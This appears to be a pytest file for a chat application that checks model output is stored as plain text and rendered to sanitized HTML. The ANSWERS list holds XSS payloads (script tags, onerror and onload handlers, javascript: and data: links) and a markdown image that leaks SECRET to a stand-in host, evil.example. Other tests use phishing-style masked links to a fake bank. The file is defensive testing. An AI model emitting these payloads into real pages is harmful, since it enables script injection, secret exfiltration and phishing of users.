"""A21: whatever a model answers, text is text, HTML is harmless, and there is an end to it."""

from __future__ import annotations

import re

import pytest

from chat_app import llm
from chat_app.models import ChatMessage
from tests.support import ask, open_session
from tests.waiting import wait_until

ANSWERS = [
    "<script>window.ran=1</script>",
    "<img src=x onerror=window.ran=1> and ![x](https://evil.example/?q=SECRET)",
    "[x](javascript:window.ran=1) [y](data:text/html,<script>1</script>)",
    "<iframe srcdoc='<script>1</script>'></iframe><svg/onload=window.ran=1>",
    "![a][b]\n\n[b]: https://evil.example/x.png",
    "<a href='https://evil.example' style='position:fixed;inset:0'>x</a>",
]


@pytest.fixture
def answered(engine, provider, settings):
    """What is stored, and what a visitor gets, when the model says this."""

    def answer(text, api):
        settings.LLM_MODEL = "openai/says9"
        provider.says = text
        session = open_session()
        ask(session, "Say something.", is_streamed=True)
        stored = ChatMessage.objects.filter(session=session, message_type="assistant")
        wait_until(stored.filter(status="done").exists)
        found = api.with_session(session).get(f"/chat/messages/{stored.get().pk}").json()
        return stored.get().content, found

    return answer


@pytest.mark.parametrize("text", ANSWERS, ids=lambda text: text[:20])
def test_is_text_as_text_and_harmless_as_html(answered, api, text):
    stored, found = answered(text, api)

    assert stored == found["text"] == text
    for tag in re.findall(r"<[^>]*>", found["html"]):
        assert re.fullmatch(r'</?(a|p|strong|em|code)( (href|rel)="[^"]*")*>', tag), tag
    assert not re.search(r'="\s*(javascript|data):', found["html"])


@pytest.mark.parametrize(
    "label",
    [
        "https://bank.example/login",
        "bank.example",
        "www.bank.example",
        "Log in at https://bank.example",
        "**https://bank.example**",
        "`bank.example`",
        "ｂａｎｋ.example",
        "bank\u200b.example",
        "[https://bank.example]",
        "someone@bank.example",
    ],
)
def test_says_where_a_masked_link_leads(answered, api, label):
    _, found = answered(f"[{label}](https://evil.example/x 'https://bank.example')", api)

    (shown,) = re.findall(r"<a [^>]*>(.*?)</a>", found["html"])
    assert shown == "https://evil.example/x"
    assert "title" not in found["html"]


def test_leaves_honest_links_as_they_are(answered, api):
    text = "[the manual](https://a.example/m) [a.example](https://www.a.example) <b@a.example>"

    _, found = answered(text, api)

    assert re.findall(r"<a [^>]*>(.*?)</a>", found["html"]) == [
        *("the manual", "a.example", "b@a.example"),
    ]


def test_says_where_a_link_leads_that_hides_it(answered, api):
    where = "https://bank.example@evil.example/"
    _, found = answered(f"[the bank]({where})", api)

    assert f"the bank ({where})" in re.sub("<[^>]*>", "", found["html"])


def test_stores_what_no_database_takes_as_a_sign_of_it(answered, api):
    stored, found = answered("a\0b \ud83d! 😀", api)

    assert stored == found["text"] == "a\ufffdb \ufffd! 😀"


@pytest.mark.parametrize("is_streamed", [True, False], ids=["streamed", "whole"])
def test_ends_an_answer_without_an_end(engine, provider, settings, is_streamed):
    settings.LLM_MODEL = "openai/huge"  # 400,000 words, two million characters
    session = open_session()
    ask(session, "Go on for ever.", is_streamed=is_streamed)
    answers = ChatMessage.objects.filter(session=session, message_type="assistant")
    wait_until(answers.filter(status="done").exists)

    assert len(answers.get().content) == llm._MOST_CHARACTERS
